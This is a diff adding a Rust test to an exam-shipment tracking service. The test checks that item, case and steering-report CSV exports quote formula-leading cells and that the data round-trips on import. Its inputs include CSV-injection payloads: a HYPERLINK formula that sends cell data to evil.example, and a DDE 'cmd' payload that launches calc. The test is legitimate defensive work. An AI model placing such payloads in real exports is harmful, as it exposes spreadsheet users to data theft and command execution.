@@ -142,3 +142,72 @@ fn cli_import_reports_rows() {
     let refused = run(&["import", path.to_str().unwrap(), "--org", "DIC"]);
     assert!(!refused.status.success());
 }
+
+/// Cells a spreadsheet would run as a formula, in every export: each such
+/// cell comes back with a leading quote, and importing the export gives the
+/// original text back.
+#[actix_web::test]
+async fn every_export_neutralises_formula_cells() {
+    use chrono::{Duration, FixedOffset};
+    use exampost::clock::Clock;
+    use exampost::domain::Role;
+
+    let app = TestApp::new().await;
+    // Organization codes allow a leading '-', and reach other organizations' exports.
+    let dept = app.new_party("-SGD", OrgKind::Education, "phu-tho");
+    let carrier = app.new_party("-VNPOST", OrgKind::Carrier, "ha-noi");
+    let admin = app.party(&app.org("ADMIN", OrgKind::Overseer, "ha-noi"), Role::Admin);
+    let number = s10(1);
+    let mut item = item_json(&number, "2026-THPT");
+    item["carrier_org"] = json!("-VNPOST");
+    item["priority"] = json!("urgent");
+    item.as_object_mut().unwrap().remove("must_arrive_by");
+    item["recipient"]["full_name"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")");
+    item["destination"]["ward"] = json!("+cmd|' /C calc'!A0");
+    item["destination"]["address_line"] = json!("-2+3");
+    item["seal_number"] = json!("@SUM(1+1)");
+    item["reference"] = json!("'=already quoted");
+    assert_eq!(app.post("/api/v1/items", Some(&dept.token), &item).await.status, 201);
+    let at = app.clock.now().with_timezone(&FixedOffset::east_opt(7 * 3600).unwrap()).to_rfc3339();
+    let accepted = json!({"client_event_id": "a-1", "type": "accepted", "occurred_at": at, "office_code": "=2+5"});
+    assert_eq!(app.post(&format!("/api/v1/items/{number}/events"), Some(&carrier.token), &accepted).await.status, 201);
+    let at = app.clock.now().with_timezone(&FixedOffset::east_opt(7 * 3600).unwrap()).to_rfc3339();
+    let broken = json!({"client_event_id": "s-1", "type": "seal_checked", "occurred_at": at, "office_code": "@A1", "seal_number": "@SUM(1+1)", "intact": false});
+    assert_eq!(app.post(&format!("/api/v1/items/{number}/events"), Some(&carrier.token), &broken).await.status, 201);
+    // Unacknowledged for two hours, the tampering case climbs to level 2 and into the steering report.
+    app.clock.advance(Duration::hours(2));
+    exampost::escalation::sweep(&mut app.conn(), app.clock.now()).unwrap();
+
+    let exports = [
+        ("items", app.get("/api/v1/items?format=csv", Some(&dept.token)).await),
+        ("cases", app.get("/api/v1/cases?format=csv", Some(&dept.token)).await),
+        ("steering", app.get("/api/v1/reports/steering?season=2026-THPT&format=csv", Some(&admin.token)).await),
+    ];
+    for (name, export) in &exports {
+        assert_eq!(export.status, 200, "{name}: {}", export.text);
+        assert!(export.text.starts_with('\u{feff}'), "{name} keeps the BOM");
+        let mut reader = ::csv::Reader::from_reader(export.text.trim_start_matches('\u{feff}').as_bytes());
+        let rows: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        assert!(!rows.is_empty(), "{name} has rows");
+        for cell in rows.iter().flat_map(|r| r.iter()) {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell:?} would run as a formula");
+        }
+        assert!(rows.iter().flat_map(|r| r.iter()).any(|c| c == "'-VNPOST" || c == "'-SGD"), "{name} quotes the org code: {}", export.text);
+    }
+    let items = &exports[0].1.text;
+    for quoted in ["'=HYPERLINK(", "'+cmd|", "'-2+3", "'@SUM(1+1)", "''=already quoted", "'@A1", "'-SGD", "'-VNPOST"] {
+        assert!(items.contains(quoted), "items export lacks {quoted:?}: {items}");
+    }
+
+    let fresh = TestApp::new().await;
+    let fresh_dept = fresh.new_party("-SGD", OrgKind::Education, "phu-tho");
+    fresh.new_party("-VNPOST", OrgKind::Carrier, "ha-noi");
+    let report = import(&fresh, &fresh_dept, items).await;
+    assert_eq!(report.body["created"].as_u64(), Some(1), "{}", report.text);
+    let back = fresh.get(&format!("/api/v1/items/{number}"), Some(&fresh_dept.token)).await;
+    assert_eq!(back.body["recipient"]["full_name"], item["recipient"]["full_name"]);
+    assert_eq!(back.body["destination"]["ward"], item["destination"]["ward"]);
+    assert_eq!(back.body["destination"]["address_line"], "-2+3");
+    assert_eq!(back.body["seal_number"], "@SUM(1+1)");
+    assert_eq!(back.body["reference"], "'=already quoted");
+}
